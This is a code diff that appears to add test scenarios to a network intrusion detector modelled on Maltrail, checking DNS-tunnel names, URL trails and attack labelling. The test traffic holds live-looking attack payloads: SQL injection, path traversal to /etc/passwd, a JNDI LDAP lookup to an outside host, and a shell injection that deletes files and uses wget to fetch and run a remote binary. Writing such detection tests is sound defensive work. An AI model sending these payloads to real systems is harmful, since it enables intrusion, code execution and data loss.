@@ -118,6 +118,18 @@ def dns_answers_sinkhole_parking():
 
 
 @scenario
+def dns_tunnel_name_characters():
+    """A trail with characters DNS carries but hostnames do not ('=', as DNS tunnels query) is
+    kept at build, and matches the name and its subdomains in UDP and TCP queries and a TLS
+    server name; a name without the '=' does not match."""
+    q = g.dns_query("q1.AAAA.=auth.tunnel-evil.org")
+    return _ts([_dns("AAAA.=auth.tunnel-evil.org", 40070),
+                g.tcp_frame(CLIENT, RESOLVER, 40071, 53, g.TCP_PSH | g.TCP_ACK, struct.pack("!H", len(q)) + q),
+                _http(g.tls_client_hello("aaaa.=auth.tunnel-evil.org"), 40072, "198.18.0.80", 443),
+                _dns("aaaa.auth.tunnel-evil.org", 40073), _dns("bbbb.=auth.tunnel-evil.org", 40074)])
+
+
+@scenario
 def dns_to_listed_resolver():
     return _ts([g.udp_frame(CLIENT, "203.0.113.67", 40060, 53, g.dns_query("anything.org"))])
 
@@ -141,7 +153,22 @@ def http_host_path_trail():
 
 @scenario
 def http_whole_host_trail():
-    return _ts([_http(g.http_request("GET", "/anything/at/all.html", "whole-host-evil.biz", "curl/8.0"), 40120)])
+    """A whole-host trail ("host/") is written alone, as Maltrail writes it, whatever the path: so
+    the client's second request folds into the first's noise-control group."""
+    return _ts([_http(g.http_request("GET", "/anything/at/all.html", "whole-host-evil.biz", "curl/8.0"), 40120),
+                _http(g.http_request("GET", "/?q=1", "whole-host-evil.biz", "curl/8.0"), 40121),
+                _http(g.http_request("GET", "/tablone.png", "198.51.100.185", "curl/8.0"), 40122, "198.51.100.185")])
+
+
+@scenario
+def http_url_trail_query_dropped():
+    """The trail slash-evil.biz/line/?fields=x loses its query at build; the trailing '/' left
+    over goes too (Maltrail strips it from every candidate), so it matches the requests it names.
+    /lines and another host's /line/ do not match."""
+    return _ts([_http(g.http_request("GET", "/line/?fields=x", "slash-evil.biz"), 40125),
+                _http(g.http_request("GET", "/line/", "slash-evil.biz"), 40126),
+                _http(g.http_request("GET", "/lines", "slash-evil.biz"), 40127),
+                _http(g.http_request("GET", "/line/", "slash-good.biz"), 40128)])
 
 
 @scenario
@@ -465,6 +492,51 @@ def http_attacks():
     frames.append((20, _http(g.http_request("POST", "/search", "post.example",
                                             body=b"q=1 UNION SELECT pwd FROM users"), 46100, "198.18.2.1")))
     frames.append((21, _http(g.http_request("GET", "/a/b/../images/../js/app.js", "site.example"), 46101, "198.18.2.2")))
+    return _at(frames)
+
+
+@scenario
+def http_form_encoded_attacks():
+    """'+' is a space in a query and a form body (application/x-www-form-urlencoded): SQL injection
+    and a command spelled with '+' fire, in a query and in a POST body. A '+' in the path stays a
+    '+', and an encoded "%2B" is a '+': those requests are clean."""
+    reqs = [("GET", "/item.php?id=1+union+select+username,password+from+users", b""),
+            ("GET", "/news.php?id=7+and+1%3D1%23", b""),
+            ("POST", "/login.php", b"user=admin&pass=x%27+or+%271%27%3D%271"),
+            ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws", b""),
+            ("GET", "/docs/union+select+guide.html?page=2", b""),
+            ("GET", "/search?q=c%2B%2B+templates&lang=en", b""),
+            ("POST", "/calc", b"expr=1%2B1%3D2+and+more")]
+    return _at([(i, _http(g.http_request(method, target, "form%d.example" % i, body=body), 46200 + i,
+                          "198.18.6.%d" % (i + 1))) for i, (method, target, body) in enumerate(reqs)])
+
+
+@scenario
+def http_attack_labels():
+    """A request that matches several attack families gets the label of the first in Maltrail's
+    order: running a command comes before the file named (the IIS traversal worms' cmd.exe), SQL
+    injection before the traversal beside it. A JNDI lookup is remote code execution (Maltrail's
+    ${...} pattern would call it template injection)."""
+    targets = ["/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir",
+               "/cgi-bin/test.cgi?cmd=cat+/etc/passwd",
+               "/a.php?file=/etc/passwd&id=1+union+select+2",
+               "/hudson?x=${jndi:ldap://198.51.100.1/a}&f=../../../etc/passwd"]
+    return _at([(i, _http(g.http_request("GET", target, "labels%d.example" % i), 46300 + i, "198.18.7.%d" % (i + 1)))
+                for i, target in enumerate(targets)])
+
+
+@scenario
+def loopback_traffic():
+    """Traffic on 127.0.0.0/8 and ::1 (a sensor capturing its own host): an attack through a
+    reverse proxy on loopback, a local port scan and an IPv6 loopback attack are dropped (and
+    counted); DNS events stay: a query to the local stub resolver and a listed Host header."""
+    frames = [(0, _http(g.http_request("GET", "/item.php?id=1+union+select+1,2", "app.example"), 45500,
+                        "127.0.0.1", 8080, src="127.0.0.1")),
+              (1, _http(g.http_request("GET", "/", "evil-exact.com"), 45501, "127.0.0.1", 8080, src="127.0.0.1")),
+              (2, _dns("evil-exact.com", 45502, src="127.0.0.1", dst="127.0.0.53")),
+              (3, _http(g.http_request("GET", "/v?f=../../../../etc/passwd", "app6.example"), 45503, "::1", 8080,
+                        src="::1"))]
+    frames += [(4 + i * 0.1, g.tcp_frame("127.0.0.1", "127.0.0.2", 45600 + i, 1000 + i, g.TCP_SYN)) for i in range(12)]
     return _at(frames)
 
 
